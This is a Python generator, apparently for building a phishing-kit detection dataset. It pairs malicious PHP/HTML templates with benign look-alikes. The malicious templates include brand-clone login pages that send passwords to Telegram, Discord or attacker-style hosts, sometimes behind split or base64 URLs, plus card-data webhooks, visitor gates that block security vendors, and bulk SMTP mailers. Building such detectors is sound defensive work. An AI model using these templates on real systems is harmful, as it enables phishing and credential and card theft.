def pb_phpmailer_welcome(g):
    body = ("require 'vendor/autoload.php';\n$mail = new PHPMailer\\PHPMailer\\PHPMailer(true);\n"
            "$mail->setFrom('noreply@example.com', 'Example');\n$mail->addAddress($_POST['email'], $_POST['name']);\n"
            "$mail->Subject = 'Your new account';\n"
            "$mail->Body = \"Hello \" . $_POST['name'] . \",\\nyour login is \" . $_POST['username'] . \" and the password the one you chose.\";\n"
            "$mail->send();\nheader('Location: /welcome');\n")
    return php_file(g, body)


def pb_phpmailer_contact(g):
    body = ("require 'vendor/autoload.php';\n$mail = new PHPMailer\\PHPMailer\\PHPMailer();\n$mail->addAddress('office@example.com');\n"
            "$mail->addReplyTo($_POST['email']);\n$mail->Subject = 'Contact form';\n"
            "$mail->Body = 'From: ' . $_POST['name'] . \"\\n\" . $_POST['message'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];\n"
            "$mail->send();\nheader('Location: /thanks.html');\n")
    return php_file(g, body)


def pb_crm_web_to_lead(g):
    body = ("$lead = array('source' => 'website', 'ip' => $_SERVER['REMOTE_ADDR'], 'ua' => $_SERVER['HTTP_USER_AGENT']);\n"
            "foreach ($_POST as $k => $v) {\n    $lead[$k] = $v;\n}\n"
            "wp_remote_post('https://crm.example.com/api/leads', array('body' => $lead));\n"
            "wp_safe_redirect(home_url('/thank-you/'));\nexit;\n")
    return php_file(g, body)


def pb_email_verify_redirect(g):
    body = ("require 'bootstrap.php';\n$email = filter_var($_GET['email'] ?? '', FILTER_VALIDATE_EMAIL);\nif (!$email) {\n    exit('bad link');\n}\n"
            "$_SESSION['pending_email'] = $email;\nheader('Location: /verify.php?email=' . urlencode($email));\nexit;\n")
    return php_file(g, body)


PHISH_TEMPLATES2 = [
    ("kit_webhook_result", p_webhook_result, "malicious", "php", "high"),
    ("kit_mailer_result", p_mailer_result, "malicious", "php", "high"),
    ("kit_tg_hidden", p_tg_hidden_result, "malicious", "php", "high"),
    ("kit_session_result", p_session_result, "malicious", "php", "high"),
    ("kit_session_step", p_session_step, "malicious", "php", "any"),
    ("kit_redirect", p_redirect_handler, "malicious", "php", "any"),
    ("oauth_password_login", pb_oauth_password_login, "benign", "php", "none"),
    ("gateway_fraud_check", pb_gateway_fraud_check, "benign", "php", "none"),
    ("recaptcha_login", pb_recaptcha_login, "benign", "php", "none"),
    ("phpmailer_welcome", pb_phpmailer_welcome, "benign", "php", "none"),
    ("phpmailer_contact", pb_phpmailer_contact, "benign", "php", "none"),
    ("crm_web_to_lead", pb_crm_web_to_lead, "benign", "php", "none"),
    ("email_verify_redirect", pb_email_verify_redirect, "benign", "php", "none"),
]

PHISH_TEMPLATES = [
    ("kit_login_result", p_login_result, "malicious", "php", "high"),
    ("kit_card_result", p_card_result, "malicious", "php", "high"),
    ("kit_otp_relay", p_otp_relay, "malicious", "php", "high"),
    ("kit_post_dump", p_post_dump, "malicious", "php", "any"),
    ("kit_antibot", p_antibot, "malicious", "php", "any"),
    ("kit_landing_copy", p_landing_copy, "malicious", "php", "any"),
    ("kit_login_clone", p_login_clone_html, "malicious", "html", "any"),
    ("kit_session_expired", p_session_expired, "malicious", "php", "any"),
    ("contact_form", pb_contact_form, "benign", "php", "none"),
    ("login_handler", pb_login_handler, "benign", "php", "none"),
    ("newsletter_signup", pb_newsletter_signup, "benign", "php", "none"),
    ("geo_analytics", pb_geo_analytics, "benign", "php", "none"),
    ("badbot_blocker", pb_badbot_blocker, "benign", "php", "none"),
    ("password_reset", pb_password_reset, "benign", "php", "none"),
    ("payment_gateway", pb_payment_gateway, "benign", "php", "none"),
    ("telegram_orders", pb_telegram_orders, "benign", "php", "none"),
    ("register", pb_register, "benign", "php", "none"),
    ("real_login_page", pb_real_login_page, "benign", "php", "none"),
]
# ---- third phishing session (issue 12): the HTML-only sign-in clone (no PHP:
# the form or a script sends the password to another host or a messenger),
# the kit's visitor gate (a blocklist file, vendors' names and hosting
# providers, a crawler filter, a geo/ISP lookup, per-visitor copies) and card
# data posted as JSON to a webhook. Invented from the technique; the held-out
# sets were not opened.

PH3_BRANDS = [("Outlook Web App", "Microsoft"), ("Sign in to your account", "Microsoft"), ("Office 365", "Microsoft"),
              ("PayPal: Log in", "PayPal"), ("Online Banking - Log On", "Wells Fargo"), ("Webmail Login", "Zimbra"),
              ("DHL Express - Track & Sign in", "DHL"), ("Apple ID", "Apple"), ("Chase Online", "Chase"),
              ("Mail - Sign in", "Yahoo"), ("Verify your account", "Netflix"), ("Sign in - Google Accounts", "Google")]
PH3_HOSTS = ["https://secure-login.%s.ru/auth/", "https://%s.workers.dev/", "http://185.%d.%d.22/owa/post",
             "https://%s.herokuapp.com/api/s", "https://formspree.io/f/%s", "https://%s.000webhostapp.com/next.php",
             "https://cdn-%s.top/collect", "https://%s.netlify.app/.netlify/functions/log"]


def ph3_host(g):
    r = g.rng
    u = r.choice(PH3_HOSTS)
    if "%d" in u:
        return u % (r.randint(1, 254), r.randint(1, 254))
    return u % g.ident().lower().strip("_")[:8]


def ph3_page(g, title, brand, form_open, script, pass_id):
    r = g.rng
    claim = r.choice(["<p class=\"foot\">&copy; %d %s</p>" % (r.randint(2018, 2025), brand),
                      "<p class=\"foot\">%s &copy; %d</p>" % (brand, r.randint(2018, 2025)),
                      "<p>Use your %s account to continue.</p>" % brand,
                      "<footer>Copyright %d %s Corporation. All rights reserved.</footer>" % (r.randint(2018, 2025), brand)])
    user = r.choice(["email", "login", "username", "loginfmt", "userid"])
    return ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\n<title>%s</title>\n"
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n"
            "<link rel=\"stylesheet\" href=\"assets/style.css\"></head>\n<body>\n<div class=\"card\">\n"
            "<img src=\"assets/logo.svg\" alt=\"%s\">\n<h2>%s</h2>\n%s\n"
            "<input type=\"%s\" name=\"%s\" id=\"%s\" placeholder=\"Email address\" required>\n"
            "<input type=\"password\" name=\"%s\" id=\"%s\" placeholder=\"Password\" required>\n"
            "<button type=\"submit\" id=\"btn\">%s</button>\n</form>\n%s\n</div>\n%s</body></html>\n"
            % (title, brand, r.choice(["Sign in", "Enter password", "Verify your identity", "Session expired"]),
               form_open, r.choice(["email", "text"]), user, r.choice(["email", "user", "i0116", "login"]),
               pass_id, pass_id, r.choice(["Sign in", "Next", "Log On", "Continue"]), claim, script))


PH3_MORE_BRANDS = ["Hotmail", "Yandex", "GMX", "Zoho Mail", "Xfinity", "AT&T Mail", "UPS", "DPD", "Canada Post", "PostNL",
                   "Lloyds Bank", "NatWest", "TD Bank", "Scotiabank", "ING", "Sparkasse"]


def p3_html_form_external(g):
    """A static brand clone whose form posts straight to another host."""
    r = g.rng
    title, brand = r.choice(PH3_BRANDS)
    form = "<form method=\"%s\" action=\"%s\" id=\"lf\">" % (r.choice(["post", "POST"]), ph3_host(g))
    page = ph3_page(g, title, brand, form, "", r.choice(["password", "passwd", "pass", "i0118", "pwd"]))
    if r.random() < 0.4:  # the brand only in a heading or a "Sign in to ..." line, under a generic title
        g.transforms.add("heading-claim")
        b = r.choice(PH3_MORE_BRANDS)
        page = page.replace("<title>%s</title>" % title, "<title>%s</title>" % r.choice(["Sign in", "Login", "Verify"]))
        page = re.sub(r"<p class=\"foot\">.*?</p>|<p>Use your .*?</p>|<footer>.*?</footer>", "", page)
        page = page.replace("<h2>", r.choice(["<h1>%s</h1>\n<h2>" % b, "<p>Sign in to your %s account</p>\n<h2>" % b,
                                              "<h1 class=\"brand\">%s Online</h1>\n<h2>" % b]), 1)
        page = page.replace("alt=\"%s\"" % brand, "alt=\"logo\"")
    return page


PH3_SINKS = ["https://api.telegram.org/bot%d:AAH%s/sendMessage", "https://discord.com/api/webhooks/%d/%s",
             "https://hooks.slack.com/services/T%d/B%s", "https://webhook.site/%d-%s", "https://discordapp.com/api/webhooks/%d/%s"]


def p3_html_js_exfil(g):
    """A static brand clone whose script reads the password field and sends it away."""
    r = g.rng
    title, brand = r.choice(PH3_BRANDS)
    pid = r.choice(["password", "pass", "pwd", "i0118", "userPass"])
    sink = r.choice(PH3_SINKS + [None, None])
    if sink is None:
        url = ph3_host(g)
    else:
        url = sink % (r.randint(10 ** 8, 10 ** 9), g.ident()[:10])
    tg = "telegram" in url
    urlx = "'" + url + "'"
    if r.random() < 0.25:  # the address cut in pieces
        g.transforms.add("split-url")
        k = len(url) // 2
        urlx = "'" + url[:k] + "' + '" + url[k:] + "'"
    if r.random() < 0.15:
        g.transforms.add("atob-url")
        urlx = "atob('%s')" % base64.b64encode(url.encode()).decode()
    read = r.choice(["document.getElementById('%s').value" % pid, "$('#%s').val()" % pid,
                     "document.querySelector('input[name=%s]').value" % pid,
                     "document.forms[0].%s.value" % pid, "f.elements['%s'].value" % pid])
    msg = "'Login: ' + u + '\\nPass: ' + p + '\\nUA: ' + navigator.userAgent"
    body = ("{chat_id: '-100%d', text: %s}" % (r.randint(10 ** 8, 10 ** 9), msg)) if tg else (
        "{content: %s}" % msg if "discord" in url else "{text: %s}" % msg)
    send = r.choice(["fetch", "xhr", "jquery", "ajax", "beacon"])
    g.transforms.add("js:" + send)
    if send == "fetch":
        s = "fetch(%s, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(%s)})" % (urlx, body)
    elif send == "xhr":
        s = ("var x = new XMLHttpRequest();\n  x.open('POST', %s, true);\n  x.setRequestHeader('Content-Type', 'application/json');\n"
             "  x.send(JSON.stringify(%s))" % (urlx, body))
    elif send == "jquery":
        s = "$.post(%s, %s)" % (urlx, body)
    elif send == "ajax":
        s = "$.ajax({url: %s, type: 'POST', data: %s, dataType: 'json'})" % (urlx, body)
    else:
        s = "navigator.sendBeacon(%s, JSON.stringify(%s))" % (urlx, body)
    go = r.choice(["https://outlook.office.com/", "https://www.paypal.com/", "https://login.microsoftonline.com/", "error.html"])
    script = ("<script>\nvar f = document.getElementById('lf');\nf.addEventListener('submit', function (e) {\n"
              "  e.preventDefault();\n  var u = document.getElementById('%s').value, p = %s;\n  %s;\n"
              "  setTimeout(function () { window.location.href = '%s'; }, 1200);\n});\n</script>\n"
              % (r.choice(["email", "user", "i0116", "login"]), read, s, go))
    return ph3_page(g, title, brand, "<form id=\"lf\" action=\"#\" method=\"post\">", script, pid)


def p3_json_webhook(g):
    """Card data posted as JSON to a Discord/Slack-style webhook with curl_setopt_array."""
    r = g.rng
    hook = r.choice(["https://discord.com/api/webhooks/%d/%s", "https://hooks.slack.com/services/T%d/%s",
                     "https://discordapp.com/api/webhooks/%d/%s"]) % (r.randint(10 ** 8, 10 ** 9), g.ident()[:12])
    h, c, ip = g.var(), g.var(), g.var()
    cc, cvv, exp, name = [r.choice(p) for p in (["ccnum", "cardnumber", "cc", "card_no"], ["cvv", "cvv2", "cvc", "csc"],
                                                 ["exp", "expdate", "expiry"], ["holder", "fullname", "name"])]
    g.stmt("%s = %s;" % (h, g.enc(hook, allow=["plain", "plain", "concat", "base64"])))
    g.stmt("%s = $_SERVER[%s];" % (ip, g.lit(r.choice(["REMOTE_ADDR", "HTTP_X_FORWARDED_FOR"]))))
    fields = [("Card", "$_POST['%s']" % cc), ("CVV", "$_POST['%s']" % cvv), ("Exp", "$_POST['%s']" % exp),
              ("Name", "$_POST['%s']" % name), ("IP", ip)]
    if "slack" in hook or r.random() < 0.4:
        payload = "array('text' => %s)" % " . ".join("'%s: ' . %s . \"\\n\"" % (lab, e) for lab, e in fields)
    else:
        payload = ("array('username' => 'cc', 'embeds' => array(array('title' => 'New card', 'fields' => array(%s))))"
                   % ", ".join("array('name' => '%s', 'value' => %s)" % (lab, e) for lab, e in fields))
    body = ("%s = %s();\n%s(%s, array(\n    CURLOPT_URL => %s,\n    CURLOPT_POST => true,\n"
            "    CURLOPT_HTTPHEADER => array('Content-Type: application/json'),\n    CURLOPT_POSTFIELDS => %s(%s),\n"
            "    CURLOPT_RETURNTRANSFER => true,\n));\n%s(%s);\n%s(%s);\nheader('Location: %s');\n"
            % (c, g.fn("curl_init"), g.fn("curl_setopt_array"), c, h, g.fn("json_encode"), payload, g.fn("curl_exec"), c,
               g.fn("curl_close"), c, r.choice(["https://www.paypal.com/", "success.html", "../otp.php"])))
    return php_file(g, body)


PH3_VENDORS = ["google", "phishtank", "amazonaws", "microsoft", "netcraft", "bitdefender", "kaspersky", "digitalocean",
               "paypal", "yandex", "msn", "above", "softlayer", "linode", "ovh", "hetzner", "trendmicro", "forcepoint"]


def p3_gate(g):
    """A kit's visitor gate: two or three of a blocklist file, vendors' host names, a crawler
    filter, an ISP/geo lookup; the turned-away visitor gets a fake 404 or a big site; the rest
    see the kit (an include or a redirect into it)."""
    r = g.rng
    ip, ua, host = g.var(), g.var(), g.var()
    deny = r.choice(["header('HTTP/1.1 404 Not Found');\n    die('<h1>Not Found</h1>The requested URL was not found on this server.');",
                     "header('Location: https://www.google.com/');\n    exit;",
                     "header('Location: https://www.%s.com/');\n    exit();" % r.choice(["paypal", "microsoft", "office", "dhl"]),
                     "http_response_code(404);\n    include '404.html';\n    exit;"])
    lines = ["%s = $_SERVER[%s];" % (ip, g.lit(r.choice(["REMOTE_ADDR", "REMOTE_ADDR", "HTTP_CF_CONNECTING_IP"]))),
             "%s = %s($_SERVER[%s]);" % (ua, g.fn("strtolower"), g.lit("HTTP_USER_AGENT"))]
    parts = r.sample(["txt", "vendors", "ua", "geo"], r.randint(2, 3))
    for p in parts:
        g.transforms.add("gate:" + p)
        v, w = g.var(), g.var()
        if p == "txt":
            lines.append("%s = %s(%s, FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);" % (
                v, g.fn("file"), g.lit(r.choice(["ips.txt", "bots/blacklist.txt", "data/blocked.txt", "antibot/ip.txt"]))))
            lines.append(r.choice([
                "if (%s(%s, %s)) {\n    %s\n}" % (g.fn("in_array"), ip, v, deny),
                "foreach (%s as %s) {\n    if (%s(%s, %s(%s)) === 0) {\n    %s\n    }\n}" % (v, w, g.fn("strpos"), ip, g.fn("trim"), w, deny)]))
        elif p == "vendors":
            names = r.sample(PH3_VENDORS, r.randint(3, 7))
            lines.append("%s = %s(%s);" % (host, g.fn("gethostbyaddr"), ip))
            lines.append(r.choice([
                "%s = array(%s);\nforeach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (
                    v, ", ".join(g.lit(n) for n in names), v, w, g.fn("stripos"), host, w, deny),
                "if (%s('/%s/i', %s)) {\n    %s\n}" % (g.fn("preg_match"), "|".join(names), host, deny)]))
        elif p == "ua":
            uas = r.sample(["bot", "crawl", "spider", "slurp", "curl", "wget", "python", "scanner", "headless", "facebookexternalhit"], 5)
            lines.append(r.choice([
                "if (%s('/%s/i', %s)) {\n    %s\n}" % (g.fn("preg_match"), "|".join(uas), ua, deny),
                "foreach (array(%s) as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (
                    ", ".join(g.lit(u) for u in uas), w, g.fn("strpos"), ua, w, deny)]))
        else:
            url = r.choice(["http://ip-api.com/json/", "https://ipinfo.io/", "http://ip-api.com/php/", "https://ipapi.co/"])
            lines.append("%s = %s(%s(%s . %s%s), true);" % (v, g.fn("json_decode"), g.fn("file_get_contents"), g.lit(url), ip,
                                                         " . '/json'" if "ipapi.co" in url or "ipinfo" in url else ""))
            key = r.choice(["isp", "org", "as"])
            lines.append(r.choice([
                "if (%s('/%s/i', %s[%s])) {\n    %s\n}" % (g.fn("preg_match"), "|".join(r.sample(["google", "amazon", "microsoft", "digitalocean", "ovh", "hetzner", "linode", "cloudflare"], 4)), v, g.lit(key), deny),
                "if (!%s(%s[%s], array(%s))) {\n    %s\n}" % (g.fn("in_array"), v, g.lit(r.choice(["countryCode", "country"])),
                                                        ", ".join(g.lit(c) for c in r.sample(["US", "GB", "CA", "DE", "FR", "NL", "AU", "IT"], 3)), deny)]))
    lines.append(r.choice(["include %s;" % g.lit(r.choice(["login.html", "page/index.php", "signin.php"])),
                           "header('Location: %s');" % r.choice(["./secure/", "login/index.php?session=" + g.ident()[:8], "verify/"]),
                           "echo file_get_contents('index2.html');",
                           "echo '<form method=\"post\" action=\"next.php\"><input name=\"email\">"
                           "<input type=\"password\" name=\"pass\"><button>Sign in</button></form>';"]))
    return php_file(g, "\n".join(lines))


def p3_onetime_dir(g):
    """One-time directory: the kit copied into a folder named at random for this visitor, then a redirect there."""
    r = g.rng
    d, src = g.var(), g.lit(r.choice(["kit", "page", "app", "secure"]))
    rnd = r.choice(["md5($_SERVER['REMOTE_ADDR'] . time())", "substr(str_shuffle('abcdefghijklmnopqrstuvwxyz0123456789'), 0, 10)",
                    "uniqid('s')", "dechex(mt_rand(100000, 999999))", "bin2hex(openssl_random_pseudo_bytes(5))", "rand(1000, 99999)"])
    how = r.choice(["zip", "cp", "files", "recurse"])
    g.transforms.add("onetime:" + how)
    body = "%s = %s;\n@mkdir(%s, 0755);\n" % (d, rnd, d)
    if how == "zip":
        z = g.var()
        body += "%s = new ZipArchive();\nif (%s->open('kit.zip') === true) {\n    %s->extractTo(%s);\n    %s->close();\n}\n" % (z, z, z, d, z)
    elif how == "cp":
        body += "%s('cp -r ' . %s . '/* ' . %s);\n" % (r.choice(["shell_exec", "exec", "system"]), src, d)
    elif how == "files":
        f = g.var()
        body += ("foreach (glob(%s . '/*') as %s) {\n    file_put_contents(%s . '/' . basename(%s), file_get_contents(%s));\n}\n"
                 % (src, f, d, f, f))
    else:
        fn_, a, b, f = g.fname(), g.var(), g.var(), g.var()
        body = ("function %s(%s, %s)\n{\n    $h = opendir(%s);\n    @mkdir(%s);\n    while (false !== (%s = readdir($h))) {\n"
                "        if (%s != '.' && %s != '..') {\n            if (is_dir(%s . '/' . %s)) %s(%s . '/' . %s, %s . '/' . %s);\n"
                "            else copy(%s . '/' . %s, %s . '/' . %s);\n        }\n    }\n    closedir($h);\n}\n"
                % (fn_, a, b, a, b, f, f, f, a, f, fn_, a, f, b, f, a, f, b, f)) + body + "%s(%s, %s);\n" % (fn_, src, d)
    body += r.choice(["header('Location: ' . %s . '/index.php?' . $_SERVER['QUERY_STRING']);\n" % d,
                      "header(\"Location: $%s/\");\n" % d[1:],
                      "echo '<meta http-equiv=\"refresh\" content=\"0; url=' . %s . '/\">';\n" % d,
                      "echo \"<script>window.location.href='\" . %s . \"/';</script>\";\n" % d])
    return php_file(g, body)


# ---- benign look-alikes of the third session


def pb3_own_login_page(g):
    """A site's own sign-in page: relative or own absolute action, no brand claim."""
    r = g.rng
    site = r.choice(["acme-tools.example", "bakery.example.org", "intranet.example.net"])
    act = r.choice(["/login", "login.php", "", "https://www.%s/session" % site, "https://%s/auth/login" % site])
    script = r.choice(["", "<script>\ndocument.getElementById('lf').addEventListener('submit', function (e) {\n  e.preventDefault();\n"
                       "  fetch('/api/login', {method: 'POST', body: JSON.stringify({user: document.getElementById('email').value, "
                       "password: document.getElementById('password').value})}).then(function () { location.href = '/'; });\n});\n</script>\n"])
    if r.random() < 0.4:  # a webmail portal posting to the hosting company's server
        act = r.choice(["https://mail.hostco.example:2096/login/", "https://webmail.hostco.example/?_task=login"])
    title = r.choice(["Sign in - %s" % site.split(".")[0].title(), "Webmail Login - Acme", "Purchase history - Sign in",
                      "Citizens Portal - Log in", "Office portal"])
    return ph3_page(g, title, "Acme Tools GmbH",
                    "<form id=\"lf\" method=\"post\" action=\"%s\">" % act, script, "password")


def pb3_social_login_page(g):
    """A site's own sign-in page that also offers "Sign in with Google": it names the brand's account."""
    r = g.rng
    b = r.choice(["Google", "Microsoft", "Apple"])
    page = ph3_page(g, "Log in | Acme Tools", "Acme Tools GmbH",
                    "<form id=\"lf\" method=\"post\" action=\"%s\">" % r.choice(
                        ["https://www.acme-tools.example/login", "https://app.acme-tools.example/session", "/login"]),
                    "", "password")
    return page.replace("<h2>", "<a class=\"btn\" href=\"/auth/%s\">Sign in with %s</a>\n<p>Use your %s account or your "
                        "Acme password.</p>\n<h3>Continue with %s</h3>\n<h2>" % (b.lower(), b, b, b), 1)


def pb3_newsletter_provider(g):
    """A newsletter signup posting to a mail-service provider's form: an address, no password."""
    r = g.rng
    act = r.choice(["https://acme.us5.list-manage.com/subscribe/post?u=%s&amp;id=%s" % (g.ident()[:10], g.ident()[:8]),
                    "https://app.sendinblue.example/serve/%s" % g.ident()[:12], "https://forms.example-mail.com/f/%s" % g.ident()[:8]])
    return ("<!DOCTYPE html>\n<html><head><title>Newsletter - Acme Bakery</title></head><body>\n"
            "<form action=\"%s\" method=\"post\" target=\"_blank\">\n<label>Email <input type=\"email\" name=\"EMAIL\" required></label>\n"
            "<input type=\"text\" name=\"FNAME\" placeholder=\"First name\">\n<button>Subscribe</button>\n</form>\n"
            "<p>&copy; %d Acme Bakery. We use Mailchimp; see our privacy policy. Follow us on Facebook and Google.</p>\n</body></html>\n"
            % (act, r.randint(2019, 2025)))


def pb3_sso_form(g):
    """An SSO page: posts to the identity provider; a Microsoft page posts to Microsoft."""
    r = g.rng
    if r.random() < 0.5:
        return ph3_page(g, "Sign in - Contoso University", "Contoso University",
                        "<form method=\"post\" action=\"https://idp.contoso.example.edu/idp/profile/SAML2/POST/SSO?execution=e1s1\">",
                        "", "password")
    return ph3_page(g, "Sign in to your account", "Microsoft",
                    "<form method=\"post\" action=\"%s\" id=\"lf\">" % r.choice(
                        ["https://login.microsoftonline.com/common/login", "https://login.live.com/ppsecure/post.srf",
                         "https://login.microsoftonline.com/contoso.onmicrosoft.com/saml2"]), "", "i0118")


def pb3_geo_lang_redirect(g):
    r = g.rng
    body = ("$ip = $_SERVER['REMOTE_ADDR'];\n$cc = 'US';\n$j = @json_decode(file_get_contents('%s' . $ip), true);\n"
            "if (is_array($j) && isset($j['countryCode'])) {\n    $cc = $j['countryCode'];\n}\n"
            "$map = array('DE' => '/de/', 'AT' => '/de/', 'FR' => '/fr/', 'ES' => '/es/');\n"
            "if (!isset($_COOKIE['lang']) && isset($map[$cc])) {\n    header('Location: ' . $map[$cc], true, 302);\n    exit;\n}\n"
            "if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {\n    return; // crawlers see every language\n}\n"
            % r.choice(["http://ip-api.com/json/", "https://ipinfo.io/json?ip="]))
    return php_file(g, body)


def pb3_rate_limiter(g):
    body = ("$ip = $_SERVER['REMOTE_ADDR'];\n$blocked = file(__DIR__ . '/blocklist.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);\n"
            "if (in_array($ip, $blocked, true)) {\n    header('HTTP/1.1 429 Too Many Requests');\n    header('Retry-After: 3600');\n    exit('Too many requests');\n}\n"
            "$key = sys_get_temp_dir() . '/rl-' . md5($ip);\n$n = (int) @file_get_contents($key);\n"
            "if ($n > 120) {\n    file_put_contents(__DIR__ . '/blocklist.txt', $ip . \"\\n\", FILE_APPEND | LOCK_EX);\n    http_response_code(429);\n    exit;\n}\n"
            "file_put_contents($key, $n + 1);\n")
    return php_file(g, body)


def pb3_cdn_bot_filter(g):
    r = g.rng
    body = ("/* Plugin Name: Edge Cache Helper - serves crawlers the cached page, verifies Googlebot by reverse DNS */\n"
            "function ech_client_ip()\n{\n    return isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];\n}\n"
            "function ech_is_verified_crawler()\n{\n    $ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
            "    if (!preg_match('/googlebot|bingbot|yandex|baiduspider/', $ua)) {\n        return false;\n    }\n"
            "    $host = gethostbyaddr(ech_client_ip());\n    foreach (array('googlebot.com', 'google.com', 'search.msn.com', 'yandex.ru') as $d) {\n"
            "        if (substr($host, -strlen($d)) === $d) {\n            return gethostbyname($host) === ech_client_ip();\n        }\n    }\n"
            "    status_header(403);\n    exit;\n}\n"
            "$ranges = file(__DIR__ . '/cloudflare-ips.txt', FILE_IGNORE_NEW_LINES);\n"
            "if (ech_is_verified_crawler()) {\n    include __DIR__ . '/cache/%s.html';\n}\n" % r.choice(["home", "index"]))
    return php_file(g, body)


PHISH_TEMPLATES3 = [
    ("kit_html_form_ext", p3_html_form_external, "malicious", "html", "high"),
    ("kit_html_js_exfil", p3_html_js_exfil, "malicious", "html", "high"),
    ("kit_json_webhook", p3_json_webhook, "malicious", "php", "high"),
    ("kit_gate", p3_gate, "malicious", "php", "any"),
    ("kit_onetime_dir", p3_onetime_dir, "malicious", "php", "any"),
    ("own_login_page", pb3_own_login_page, "benign", "html", "none"),
    ("social_login_page", pb3_social_login_page, "benign", "html", "none"),
    ("newsletter_provider", pb3_newsletter_provider, "benign", "html", "none"),
    ("sso_form", pb3_sso_form, "benign", "html", "none"),
    ("geo_lang_redirect", pb3_geo_lang_redirect, "benign", "php", "none"),
    ("rate_limiter", pb3_rate_limiter, "benign", "php", "none"),
    ("cdn_bot_filter", pb3_cdn_bot_filter, "benign", "php", "none"),
]


TEMPLATES += PHISH_TEMPLATES + PHISH_TEMPLATES2 + PHISH_TEMPLATES3
# ==================================================== end of PHISHING KITS


# ===========================================================================
# MAILERS, PHISHING AND BOTS THAT GENERALIZE (branch loco). Invented from the
# techniques, without opening the corpus's mailer, phishing or bot samples:
# PHP bulk senders (raw SMTP with AUTH LOGIN, kit placeholders, relays with
# the fields in variables, sender rotation, Symfony Mailer / Swift bulk),
# script senders (MIME::Lite, smtplib, shell mail loops), kit gates on
# address ranges, one-time directories in more spellings, Perl IRC bots with
# a pipe-open runner, flood command sets, eggdrop and Node bots, SSH
# spreaders; and their benign look-alikes.

LM_PH = [("[-email-]", "[-name-]"), ("##EMAIL##", "##NAME##"), ("%%email%%", "%%user%%"), ("[[email]]", "[[name]]")]


def lm_list(g):
    """Where the recipients come from: a posted textarea, an upload or a posted path."""
    r = g.rng
    k = r.choice(["emails", "maillist", "list", "to", "leads", "targets"])
    how = r.choice(["post", "upload", "upload_file"])
    g.transforms.add("list:" + how)
    if how == "post":
        return "explode(\"\\n\", trim($_POST['%s']))" % k
    if how == "upload":
        return "explode(\"\\n\", file_get_contents($_FILES['%s']['tmp_name']))" % k
    return "file($_FILES['%s']['tmp_name'], FILE_IGNORE_NEW_LINES)" % k


def lm_raw_smtp(g):
    r = g.rng
    s, to, lst = g.var(), g.var(), g.var()
    conn = r.choice(["fsockopen($_POST['host'], (int) $_POST['port'], $errno, $errstr, 15)",
                     "stream_socket_client('tcp://' . $_POST['smtp'] . ':587', $errno, $errstr, 20)",
                     "@fsockopen('ssl://' . $_POST['server'], 465)"])
    w = r.choice(["fputs", "fwrite"])
    g.transforms.add("raw:" + w)
    body = ("%s = %s;\n%s = %s;\nif (!%s) { die('no connect'); }\nfgets(%s, 512);\n"
            "%s(%s, \"EHLO \" . $_SERVER['SERVER_NAME'] . \"\\r\\n\");\n"
            "%s(%s, \"AUTH LOGIN\\r\\n\");\n%s(%s, base64_encode($_POST['user']) . \"\\r\\n\");\n"
            "%s(%s, base64_encode($_POST['pass']) . \"\\r\\n\");\n"
            "foreach (%s as %s) {\n    %s = trim(%s);\n    if (%s == '') continue;\n"
            "    %s(%s, \"MAIL FROM:<\" . $_POST['from'] . \">\\r\\n\");\n"
            "    %s(%s, \"RCPT TO:<\" . %s . \">\\r\\n\");\n    %s(%s, \"DATA\\r\\n\");\n"
            "    %s(%s, \"Subject: \" . $_POST['subject'] . \"\\r\\nTo: \" . %s . \"\\r\\n\\r\\n\" . $_POST['letter'] . \"\\r\\n.\\r\\n\");\n"
            "    fgets(%s, 512);\n    %s\n}\n%s(%s, \"QUIT\\r\\n\");\nfclose(%s);\n"
            % (lst, lm_list(g), s, conn, s, s, w, s, w, s, w, s, w, s, lst, to, to, to, to, w, s, w, s, to, w, s,
               w, s, to, s, r.choice(["usleep(200000);", "sleep(1);", ""]), w, s, s))
    return php_file(g, body)


def lm_placeholders(g):
    r = g.rng
    pe, pn = r.choice(LM_PH)
    to, i, lst, letter = g.var(), g.var(), g.var(), g.var()
    send = r.choice(["mail(%s, $_POST['subject'], %s, $headers)", "@mail(%s, stripslashes($_POST['subject']), %s, $headers)"])
    body = ("%s = %s;\n$headers = \"MIME-Version: 1.0\\r\\nContent-type: text/html; charset=utf-8\\r\\nFrom: \" . $_POST['from'] . \"\\r\\n\";\n"
            "%s = 0;\nforeach (%s as %s) {\n    %s = trim(%s);\n"
            "    %s = str_replace('%s', %s, $_POST['letter']);\n    %s = str_replace('%s', strtok(%s, '@'), %s);\n"
            "    if (%s) { echo \"sent: \" . %s . \"<br>\"; }\n    if (++%s %% %d == 0) { sleep(%d); }\n}\n"
            % (lst, lm_list(g), i, lst, to, to, to, letter, pe, to, letter, pn, to, letter,
               send % (to, letter), to, i, r.choice([20, 50, 100]), r.choice([2, 5, 10])))
    return php_file(g, body)


def lm_relay_fields(g):
    r = g.rng
    to, su, bo, hd = g.var(), g.var(), g.var(), g.var()
    dec = r.choice(["", "base64_decode", "stripslashes", "urldecode"])
    wrap = (lambda k: "%s($_POST['%s'])" % (dec, k)) if dec else (lambda k: "$_POST['%s']" % k)
    g.transforms.add("relay:" + (dec or "plain"))
    body = ("if (isset($_POST['%s'])) {\n    %s = %s;\n    %s = %s;\n    %s = %s;\n"
            "    %s = 'From: ' . $_POST['from'] . \"\\r\\nReply-To: \" . $_POST['reply'] . \"\\r\\nContent-Type: text/html\";\n"
            "    echo @mail(%s, %s, %s, %s) ? 'ok' : 'fail';\n    exit;\n}\n"
            % (r.choice(["to", "go", "send"]), to, wrap(r.choice(["to", "mailto", "rcpt"])), su,
               wrap(r.choice(["subject", "subj"])), bo, wrap(r.choice(["message", "body", "letter", "msg"])), hd,
               to, su, bo, hd))
    return php_file(g, body)


def lm_rotation(g):
